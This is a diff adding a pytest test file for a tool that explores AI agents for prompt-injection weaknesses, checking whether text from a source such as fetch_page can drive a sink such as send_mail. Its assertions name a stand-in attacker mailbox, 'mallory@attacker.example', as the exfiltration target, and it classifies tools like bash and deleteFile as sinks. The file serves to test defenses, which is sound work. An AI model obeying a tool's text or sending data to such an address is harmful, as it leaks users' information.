@@ -1,0 +1,155 @@
+"""A model that obeys the text of a tool: which agents let it, and which do not."""
+
+from __future__ import annotations
+
+from typing import Any, cast
+
+import pytest
+
+from offbook.errors import InvariantBroken, UsageError
+from offbook.exchange.model import Tool
+from offbook.explore import (
+    Counterexample,
+    Exploration,
+    PlainTools,
+    classify,
+    explore,
+    is_refusal,
+    powerful,
+    replay,
+    run_rendered,
+    untrusted,
+)
+from tests.explore.authority_agents import CAREFUL, PROMPT, VULNERABLE, Row, hosted, mail_desk
+from tests.explore.authority_agents import session_host as in_session
+from tests.forked import forked_command
+
+AUTHORITY = "no obedience to a tool's text"
+SEED, RUNS = 43, 3  # in two of the three behaviours the model obeys
+VULNERABLE_SESSION = hosted(in_session, mail_desk)
+
+
+@pytest.fixture(autouse=True)
+def key(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "x")
+    forked_command()  # a search ends what its behaviours start
+
+
+def search(row: Row, **options: Any) -> list[Counterexample]:
+    """Return what a search finds about authority."""
+    try:
+        found = explore(row.world, row.prompt, *row.policy, runs=RUNS, seed=SEED, **options)
+    except InvariantBroken as error:
+        found = cast("Exploration", error.exploration)
+    return [finding for finding in found.findings if finding.invariant == AUTHORITY]
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("name", VULNERABLE)
+def test_an_agent_that_lets_a_text_run_a_tool_is_found_and_the_script_repeats_it(name: str):
+    row = VULNERABLE[name]
+    (finding,) = search(row)
+    faults = [move.fault for move in finding.moves if move.fault]
+    with pytest.raises(InvariantBroken, match=AUTHORITY):
+        replay(row.world, run_rendered(finding.script), *row.policy, faults=faults)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("name", CAREFUL)
+def test_a_careful_agent_has_no_finding(name: str):
+    assert search(CAREFUL[name]) == []
+
+
+def test_the_message_has_the_path_from_the_source_to_the_sink():
+    (finding,) = search(Row(VULNERABLE_SESSION), deadline=None)
+    assert "source: fetch_page(" in finding.message
+    assert 'sink:   send_mail({"to":"mallory@attacker.example"' in finding.message
+    assert "with to='mallory@attacker.example'" in finding.message
+
+
+def test_the_oracle_can_be_left_out():
+    assert search(Row(VULNERABLE_SESSION), without=["authority"], deadline=None) == []
+
+
+def test_marked_tools_replace_the_classification():
+    row = Row(VULNERABLE_SESSION, PROMPT, (powerful("fetch_page"), untrusted("fetch_page")))
+    assert search(row, deadline=None) == []
+
+
+def test_a_marked_tool_that_the_agent_does_not_have_is_refused():
+    with pytest.raises(UsageError, match="'fetch_pag'"):
+        explore(
+            VULNERABLE_SESSION, PROMPT, untrusted("fetch_pag"), runs=1, seed=SEED, deadline=None
+        )
+
+
+def test_a_mark_names_tools():
+    with pytest.raises(UsageError, match="expected names of tools, got ''"):
+        untrusted()
+
+
+TOOLS = {
+    "fetch_page url": (True, False),
+    "read_mail number": (True, False),
+    "list_issues": (True, False),
+    "getTicket id": (True, False),
+    "inbox": (True, False),
+    "find_order number": (False, False),
+    "order_status number": (False, False),
+    "calculate expression": (False, False),
+    "write_draft text": (False, False),
+    "mail_count": (False, False),
+    "send_mail to text": (False, True),
+    "email to body": (False, True),
+    "deleteFile path": (False, True),
+    "bash command": (False, True),
+    "slack_post channel text": (False, True),
+    "add_user name": (False, True),
+    "http_request url method body": (True, True),
+}
+
+
+@pytest.mark.parametrize("words", TOOLS)
+def test_a_tool_is_classified_by_its_name_and_parameters(words: str):
+    name, *parameters = words.split()
+    schema = {"type": "object", "properties": {p: {"type": "string"} for p in parameters}}
+    found = classify(Tool(name, "", schema))
+    assert (found.source, found.sink) == TOOLS[words]
+
+
+def test_a_description_says_what_a_name_does_not():
+    assert classify(Tool("gmail", "Sends a mail to a person.")).sink
+    assert classify(Tool("wiki_tool", "Reads an article.")).source
+
+
+RESULTS = {
+    "not sent: the recipient is unknown": True,
+    "The user declined.": True,
+    '{"ok": false}': True,
+    "dry run": True,
+    "sent": False,
+    "": False,
+    '{"ok": true, "error": null}': False,
+    "cancelled": False,  # that is what the tool does
+    "cancelled no such order": False,  # it repeats its argument
+}
+
+
+@pytest.mark.parametrize("text", RESULTS)
+def test_a_result_says_whether_the_tool_did_it(text: str):
+    assert is_refusal(text, "cancel_order", {"name": "no such order"}) is RESULTS[text]
+
+
+def test_the_functions_of_a_loop_are_watched_until_it_is_closed():
+    def fetch(url: str, times: int = 1) -> str:
+        return url * times
+
+    def agent(prompt: str) -> str:
+        return fetch(prompt, times=2)
+
+    watched = PlainTools(agent)
+    watched.watch(["fetch"])
+    assert agent("a") == "aa"
+    watched.close()
+    assert agent("b") == "bb"
+    assert watched.inputs == {"fetch": [{"url": "a", "times": 2}]}
